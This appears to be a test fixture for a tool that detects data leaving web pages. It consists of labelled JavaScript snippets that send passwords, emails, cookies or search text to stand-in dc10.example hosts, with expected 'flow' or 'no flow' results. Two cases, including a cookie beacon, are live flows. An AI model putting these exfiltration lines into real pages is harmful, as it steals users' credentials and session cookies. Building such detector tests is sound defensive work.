//# never-called-inner
// no flow
(function () {
  function report(v) { fetch('https://nci.dc10.example/', { method: 'POST', body: v }); }
  const v = document.querySelector('input[type=email]').value;
  document.querySelector('#n').textContent = v.length;
})();

//# constant-false-flag
// no flow
const DEBUG = false;
if (DEBUG) fetch('https://cff.dc10.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });

//# build-time-comparison
// no flow
const BUILD = { target: 'prod' };
if (BUILD.target === 'staging') navigator.sendBeacon('https://btc.dc10.example/', document.cookie);

//# build-time-comparison-met
// flow: identifier > btm.dc10.example via beacon
const BUILD2 = { target: 'staging' };
if (BUILD2.target === 'staging') navigator.sendBeacon('https://btm.dc10.example/', document.cookie);

//# after-throw
// no flow
function broken(v) {
  throw new Error('disabled');
  fetch('https://aft.dc10.example/', { method: 'POST', body: v });
}
try { broken(document.querySelector('input[type=tel]').value); } catch (e) { console.log(e); }

//# listener-removed-at-once
// no flow
const onKey = (e) => navigator.sendBeacon('https://lra.dc10.example/', e.key);
document.addEventListener('keydown', onKey);
document.removeEventListener('keydown', onKey);

//# listener-removed-after-first
// flow: search > lrf.dc10.example via fetch
// why: it is removed only when it has run
const once = (e) => { e.target.removeEventListener('change', once); fetch('https://lrf.dc10.example/?q=' + e.target.value); };
document.querySelector('input[type=search]').addEventListener('change', once);

//# timer-cleared
// no flow
const t8 = setTimeout(() => fetch('https://tcl.dc10.example/', { method: 'POST', body: document.querySelector('input[type=password]').value }), 1000);
clearTimeout(t8);

//# overwritten-method
// no flow
// why: the method that sends is replaced before it is called
const api9 = { save(v) { return fetch('https://owm.dc10.example/', { method: 'POST', body: v }); } };
api9.save = (v) => { sessionStorage.setItem('draft', v); };
api9.save(document.querySelector('textarea[name=message]').value);

//# short-circuit-or-never
// no flow
// why: the left side is always true
const ready10 = true;
ready10 || fetch('https://sco.dc10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# empty-list-never-loops
// no flow
const hosts11 = [];
for (const h of hosts11) fetch('https://' + h + '.dc10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# default-case-never-reached
// no flow
const mode12 = 'local';
switch (mode12) {
  case 'local': localStorage.setItem('q', document.querySelector('input[type=search]').value); break;
  case 'remote': fetch('https://dcn.dc10.example/?q=' + document.querySelector('input[type=search]').value); break;
}

//# abort-before-fetch
// no flow
// why: a signal that is aborted already makes fetch reject without a request
const ac13 = new AbortController();
ac13.abort();
fetch('https://abf.dc10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value, signal: ac13.signal }).catch(() => {});
